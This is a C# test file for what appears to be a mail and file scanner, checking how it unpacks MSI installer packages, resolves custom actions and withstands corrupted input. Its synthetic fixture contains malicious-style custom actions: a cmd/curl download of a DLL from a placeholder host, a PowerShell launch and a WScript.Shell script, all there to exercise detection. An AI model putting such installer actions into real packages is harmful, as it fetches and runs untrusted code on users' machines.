using Lurewatch.Files;
using Lurewatch.Files.Archives;
using Lurewatch.Samples;
using Lurewatch.Scripts;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Archives;

public sealed class MsiHandlerTests
{
    private static readonly byte[] Script = "new ActiveXObject('WScript.Shell').Run('calc');"u8.ToArray();

    private static byte[] Package() => MsiWriter.Write(
        [("ProductName", "Invoice"), ("Manufacturer", "Example"), ("Tool", "powershell.exe")],
        [
            ("RunIt", 34, "TARGETDIR", "cmd /c curl http://msi.example/a.dll -o a.dll"),
            ("SetArguments", 51, "Args", "-c [\\[]x] [Tool]"),
            ("RunTool", 50, "Tool", "[Args]"),
            ("Load", 1, "library", "Start"),
            ("Inline", 38, "", "MsgBox 1"),
            ("Scripted", 5, "script", "main"),
        ],
        [("Binary.script", Script), ("data.cab", CabWriter.Write([("a.txt", "abc"u8.ToArray())]))]);

    [Fact]
    public void Streams_come_out_under_their_own_names_and_are_taken_apart_further()
    {
        var analysis = Scan(Package());
        var facts = analysis.Artifacts[0].Facts.ShouldBeOfType<InstallerFacts>();
        facts.Entries.Select(entry => entry.Name).ShouldBe(["Binary.script", "data.cab"], ignoreOrder: true);
        (facts.Product, facts.Manufacturer).ShouldBe(("Invoice", "Example"));
        analysis.Artifacts.Select(file => file.Path).ShouldContain("/data.cab/a.txt");
    }

    [Fact]
    public void What_custom_actions_would_do_is_told_with_properties_filled_in()
    {
        var actions = Scan(Package()).Artifacts[0].Facts.ShouldBeOfType<InstallerFacts>().Actions;
        actions.Select(action => (action.Kind, action.Target)).ShouldBe(
        [
            (ScriptActionKind.Run, "cmd /c curl http://msi.example/a.dll -o a.dll"),
            (ScriptActionKind.Run, "powershell.exe -c [x] powershell.exe"),
            (ScriptActionKind.Call, "library!Start"),
        ]);
        actions[0].Steps.ShouldBe(["RunIt"]);
    }

    [Fact]
    public void Scripts_of_custom_actions_are_files_of_their_kind_with_the_action_as_step()
    {
        var files = Scan(Package()).Artifacts;
        files.ShouldContain(file => file.Type == FileType.JavaScript && file.Steps.SequenceEqual(new[] { "Scripted" }));
        files.ShouldContain(file => file.Type == FileType.VbScript && file.Steps.SequenceEqual(new[] { "Inline" }));
        files.ShouldContain(file => file.Type == FileType.Batch && file.Origin == "command" && file.Steps.SequenceEqual(new[] { "RunIt" }));
    }

    [Fact]
    public void Every_cut_and_many_flipped_bytes_are_read_without_a_throw()
    {
        var package = Package();
        for (var length = 1024; length < package.Length; length += 128) Scan(package[..length]);
        for (var at = 512; at < package.Length; at += 7)
        {
            var changed = (byte[])package.Clone();
            changed[at] ^= 0xff;
            Scan(changed);
        }
    }

    private static Analysis Scan(byte[] bytes) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, "a.msi");
}
